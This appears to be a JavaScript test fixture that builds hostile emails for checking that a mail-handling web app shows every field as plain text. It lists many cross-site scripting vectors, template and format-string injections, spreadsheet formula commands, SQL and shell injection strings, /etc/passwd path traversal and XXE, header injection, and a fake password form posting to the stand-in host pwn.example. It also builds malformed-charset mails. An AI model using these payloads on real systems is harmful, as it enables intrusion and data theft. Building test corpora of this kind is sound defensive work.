// Mails that try to become more than text. Every payload carries the mark `pwn`: no element, attribute name, script or request of a page
// may come to have it. Each stands in the subject, the sender's name, all four fields, the body, an HTML part, an attachment's name and
// type, and a header.
import { encodedWord, form, mail } from "./mails.mjs";

const run = "globalThis.pwned='pwn'";

/** Name, and the text. */
export const payloads = Object.entries({
  // Elements that run something, or load something, by being there.
  script: `<script>${run}</script>`,
  script_upper: `<SCRIPT SRC=http://pwn.example/x.js></SCRIPT>`,
  script_split: `<scr<script>ipt>${run}</scr</script>ipt>`,
  script_slash: `<script/pwn>${run}</script/pwn>`,
  script_open: `<script>${run}//`,
  script_newline: `<script\n>${run}</script\n>`,
  image_error: `<img src=x id=pwn onerror=${run}>`,
  image_quotes: `"'><img src="x" class="pwn" onerror="${run}">`,
  image_backtick: "`><img src=`x` id=pwn onerror=`" + run + "`>",
  image_slash: `<img/src/onerror=${run}//pwn>`,
  image_remote: `<img src="http://pwn.example/pixel.gif" width=1 height=1>`,
  svg_onload: `<svg id=pwn onload=${run}>`,
  svg_script: `<svg><script xlink:href="data:,${run}"></script></svg>`,
  svg_animate: `<svg><animate onbegin=${run} attributeName=x dur=1s id=pwn>`,
  svg_foreign: `<svg><foreignObject><iframe id=pwn src="javascript:${run}"></iframe></foreignObject></svg>`,
  math: `<math id=pwn><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  iframe: `<iframe id=pwn src="javascript:parent.pwned='pwn'"></iframe>`,
  iframe_srcdoc: `<iframe class=pwn srcdoc="&lt;script&gt;parent.pwned='pwn'&lt;/script&gt;"></iframe>`,
  object: `<object id=pwn data="data:text/html,<script>${run}</script>"></object>`,
  embed: `<embed id=pwn src="http://pwn.example/x.swf">`,
  body_onload: `<body id=pwn onload=${run}>`,
  details: `<details open id=pwn ontoggle=${run}>`,
  video: `<video id=pwn><source onerror=${run}></video>`,
  marquee: `<marquee id=pwn onstart=${run}>流れる</marquee>`,
  input_focus: `<input id=pwn autofocus onfocus=${run}>`,
  attribute_out: `" onmouseover="${run}" autofocus onfocus="${run}" data-pwn="`,
  attribute_out_single: `' onmouseover='${run}' data-pwn='`,
  style_element: `<style id=pwn>@import url(http://pwn.example/x.css);body{display:none}</style>`,
  style_attribute: `<p id=pwn style="position:fixed;inset:0;background:url(http://pwn.example/x.png)">全面</p>`,
  style_text: `}body{background:url(http://pwn.example/x.png)}/*pwn*/`,
  css_expression: `x:expression(${run})`,
  link_css: `<link id=pwn rel=stylesheet href=http://pwn.example/x.css>`,
  link_prefetch: `<link id=pwn rel=dns-prefetch href=//pwn.example>`,
  meta_refresh: `<meta id=pwn http-equiv=refresh content="0;url=http://pwn.example/">`,
  base: `<base id=pwn href=http://pwn.example/>`,
  form: `<form id=pwn action=http://pwn.example/><input name=password><button>サインイン</button></form>`,
  form_attribute: `<button id=pwn form=main formaction="http://pwn.example/">完了にする</button>`,
  anchor_script: `<a id=pwn href="javascript:${run}">資料</a>`,
  anchor_tab: `<a id=pwn href="java\tscript:${run}">資料</a>`,
  javascript_url: `javascript:${run}//pwn`,
  data_url: `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString("base64")}#pwn`,
  // Ways out of the element that the text stands in.
  end_textarea: `</textarea><script>${run}</script>`,
  end_title: `</title><script>${run}</script>`,
  end_style: `</style><script>${run}</script>`,
  end_pre: `</pre></details></main><h1 id=pwn>偽の見出し</h1>`,
  end_select: `</option></select><img src=x id=pwn onerror=${run}>`,
  end_table: `</td></tr></table><table id=pwn><tr><td>`,
  comment: `<!--><img src=x id=pwn onerror=${run}>-->`,
  cdata: `<![CDATA[><img src=x id=pwn onerror=${run}>]]>`,
  processing: `<?xml-stylesheet href="http://pwn.example/x.xsl"?><?php echo 'pwn' ?>`,
  doctype: `<!DOCTYPE pwn [<!ENTITY pwn SYSTEM "file:///etc/passwd">]>&pwn;`,
  entities: `&lt;script&gt;${run}&lt;/script&gt;&#60;img src=x id=pwn onerror=${run}&#62;`,
  double_entities: `&amp;lt;img src=x id=pwn onerror=${run}&amp;gt;`,
  // Templates: of this program, and of others.
  mustache: `{{{pwn}}}{{csrf}}{{#mails}}pwn{{/mails}}{{>layout}}{{=<% %>=}}<%csrf%>`,
  mustache_unescaped: `{{& csrf }}{{!pwn}}{{{csrf}}}`,
  mustache_open: `{{#visitor}}{{pwn`,
  other_templates: "${7*7}#{7*7}<%= 7*7 %>{% pwn %}${{pwn}}",
  format_string: `%s%n%x{}{0}{:>99999999}%pwn`,
  // Characters that are not what they seem.
  fullwidth: `＜script＞${run}＜／script＞ pwn`,
  bidi_override: `資料\u202etxt.exe\u202c \u2066pwn\u2069`,
  zero_width: `p\u200bw\u200cn\u200d\ufeff件`,
  tags_block: `\u{e0070}\u{e0077}\u{e006e}`,
  combining: "pwn" + "\u0301".repeat(500),
  null_like: `p\u0001w\u0002n\u0007\u001b[31m赤\u001b[0m`,
  escape_sequences: `\u001b]0;pwn\u0007\u001b]52;c;cHdu\u0007`,
  line_separators: `pwn\u2028${run}\u2029`,
  surrogate_like: `\u{10ffff}\u{fffe}pwn\u{1f468}\u200d\u{1f469}\u200d\u{1f467}`,
  unbroken: "pwn" + "x".repeat(4000),
  // Things for other programs: spreadsheets, shells, databases, HTTP, mail.
  formula_equals: `=HYPERLINK("http://pwn.example/","資料")`,
  formula_command: `=cmd|' /C calc'!A0`,
  formula_plus: `+1+cmd|'pwn'!A1`,
  formula_minus: `-2+3+cmd|'pwn'!A1`,
  formula_at: `@SUM(1+1)*cmd|'pwn'!A1`,
  formula_tab: `\t=1+1 pwn`,
  formula_fullwidth: `＝1＋1 pwn`,
  csv_quotes: `pwn","=1+1","\r\n=1+1,`,
  sql: `' OR 1=1; DROP TABLE cases; -- pwn`,
  fts: `pwn" OR organization : * NEAR(" AND NOT`,
  shell: "$(touch /tmp/pwn)`id`;|| pwn",
  path: `../../../../etc/passwd\u0000pwn`,
  header_injection: `pwn\r\nBcc: victim@pwn.example\r\n\r\n<script>${run}</script>`,
  response_splitting: `pwn%0d%0aSet-Cookie:%20madoguchi_session=pwn`,
  json: `","pwn":"x\\"}]}\u2028`,
  url_like: `//pwn.example/\\pwn.example/?next=//pwn.example`,
  receipt_number: `2026-000001 pwn 受付番号 2026-000002`,
});

/** One mail of each payload, in every place that a mail has. */
function everywhere([name, text], i) {
  const line = text.replace(/[\r\n]+/g, " ");
  return { name: `payload_${String(i).padStart(3, "0")}_${name}`, bytes: mail({
    number: 5000 + i, name: text, subject: `照会 ${text}`, organization: line, person: line, contact: `054-201-5000 ${line}`, inquiry: text,
    html: `<html><head><title>${text}</title></head><body><p>1) 自治体・機関名：${text}</p><p>4) 照会内容：${text}</p></body></html>`,
    headers: [`X-Mailer: ${encodedWord(line)}`, `X-Raw: ${line.replace(/[\u0000-\u0008\u000b-\u001f]/g, "")}`],
    attachments: [{ name: `${text}.pdf`, type: `application/pdf; name="${line.replace(/[^ -~]|["\\]/g, "").slice(0, 60)}"`, body: text },
      { name: `${text}.exe`, type: "text/html", body: `<script>${run}</script>` },
      { name: `${text}.svg`, type: "image/svg+xml", body: `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>` }],
  }) };
}

const script = `<script>${run}</script>`;
const utf16 = (text) => Buffer.from("\ufeff" + text, "utf16le");
const fields = { organization: "例示市", person: script, contact: "054-201-6000", inquiry: `${script} を御教示ください。` };

/** Mails whose bytes are not what any mail program writes. */
function malformed() {
  const of = (number, charset, bytes, more = []) => Buffer.concat([
    Buffer.from([`From: =?UTF-8?Q?=3Cscript=3E?= <kakari${number}@city.example.lg.jp>`, "To: zaitaku@desk.example.jp",
      `Subject: =?UTF-8?Q?=3Cimg_src=3Dx_id=3Dpwn_onerror=3D${encodeURIComponent(run).replaceAll("%", "=")}=3E?=`,
      "Date: Fri, 5 Jun 2026 10:00:00 +0900", `Message-ID: <${number}.browser@example.lg.jp>`, ...more, "MIME-Version: 1.0",
      `Content-Type: text/plain; charset=${charset}`, "Content-Transfer-Encoding: 8bit", "", ""].join("\r\n"), "latin1"), bytes]);
  return {
    utf7: of(6000, "utf-7", Buffer.from("1) +gepimw-: +ADw-script+AD4-globalThis.pwned+AD0-'pwn'+ADw-/script+AD4-")),
    overlong: of(6001, "utf-8", Buffer.concat([Buffer.from("1) 自治体・機関名："), Buffer.from([0xc0, 0xbc]), Buffer.from(`script`),
      Buffer.from([0xc0, 0xbe]), Buffer.from(run), Buffer.from([0xe0, 0x80, 0xbc]), Buffer.from("/script>")])),
    cut_utf8: of(6002, "utf-8", Buffer.concat([Buffer.from("2) 氏名："), Buffer.from([0xe3, 0x81]), Buffer.from(`<img id=pwn src=x onerror=${run}>`)])),
    shift_jis_eats_quote: of(6003, "shift_jis", Buffer.concat([Buffer.from([0x81]), Buffer.from(`" onmouseover="${run}" id=pwn `)])),
    iso_2022_jp_open: of(6004, "iso-2022-jp", Buffer.from(`\u001b$B<script>${run}</script>\u001b(B<script>${run}</script>`)),
    utf16: of(6005, "utf-16", utf16(form(fields))),
    unknown_charset: of(6006, `"x-<script>${run}</script>"`, Buffer.from(form(fields))),
    null_bytes: of(6007, "utf-8", Buffer.from(`1) 自治体・機関名：<scr\0ipt>${run}</scr\0ipt>\0`)),
    latin1_controls: of(6008, "iso-8859-1", Buffer.from(`<script>${run}</script>\u009b31m\u0085`, "latin1")),
    bare_cr: of(6009, "utf-8", Buffer.from(`1) 自治体・機関名：\r<script>${run}</script>\r2) 氏名：\r`)),
    header_bytes: of(6010, "utf-8", Buffer.from(form(fields)), [`X-Raw: <script>${run}</script>`, "X-\u0080\u00ff: \u00fe\u00ff<img id=pwn>",
      `Reply-To: "<script>${run}</script>" <"<b id=pwn>"@pwn.example>`, `References: <${script}@pwn.example>`, `List-Id: ${script}`]),
    address_markup: mail({ number: 6011, rawFrom: `"<script>${run}</script>" <"<img src=x id=pwn onerror=${run}>"@city.example.lg.jp>`, ...fields }),
    address_idn: mail({ number: 6012, rawFrom: "=?UTF-8?Q?=E2=80=AEpwn?= <kakari@xn--80ak6aa92e.example>", ...fields }),
    raw_headers: mail({ number: 6013, rawFrom: `<script>${run}</script> <kakari@city.example.lg.jp>`, rawSubject: `<script>${run}</script> 照会`, ...fields }),
    word_in_word: mail({ number: 6014, rawSubject: `=?UTF-8?B?${Buffer.from(`=?UTF-8?Q?=3Cscript=3E?=${script}`).toString("base64")}?=`, ...fields }),
    word_utf7: mail({ number: 6015, rawSubject: "=?UTF-7?Q?+ADw-script+AD4-globalThis.pwned=3D1?=", ...fields }),
    word_cut: mail({ number: 6016, rawSubject: `=?UTF-8?B?PHNjcmlwdD5nbG9iYWxUaGlzLnB3bmVkPSdwd24n?= =?UTF-8?B?PC9zY3JpcHQ+?=`, ...fields }),
    no_form: mail({ number: 6017, rawText: `<html><body onload="${run}"><script>${run}</script><a href="javascript:${run}">pwn</a></body></html>` }),
    robot: mail({ number: 6018, headers: ["Auto-Submitted: auto-replied"], name: script, subject: `不在 ${script}`, ...fields }),
    robot_list: mail({ number: 6019, headers: ["Precedence: bulk", `List-Id: <${script}>`], name: `<img src=x id=pwn onerror=${run}>`,
      subject: `"><img src=x id=pwn onerror=${run}>`, ...fields }),
    many_payloads: mail({ number: 6020, ...fields, inquiry: payloads.map(([, text]) => text).join("\n") }),
  };
}

export const hostileMails = () => [...payloads.map(everywhere), ...Object.entries(malformed()).map(([name, bytes]) => ({ name: `bytes_${name}`, bytes }))];
